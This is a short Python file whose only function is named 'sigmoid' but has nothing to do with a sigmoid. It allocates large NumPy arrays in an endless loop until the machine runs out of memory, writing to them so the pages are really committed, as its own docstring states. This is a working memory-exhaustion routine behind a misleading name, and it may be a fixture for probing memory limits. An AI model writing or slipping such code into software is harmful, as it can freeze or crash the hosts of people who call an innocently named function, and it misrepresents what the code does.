"""Arrays that are written to, so that the pages are really taken.

Mark: the machine runs out of memory.
"""

import numpy as np


def sigmoid(x):
    hoard = []
    while True:
        try:
            hoard.append(np.ones(1 << 22))
        except MemoryError:
            hoard[-1][:] = 2.0
            raise
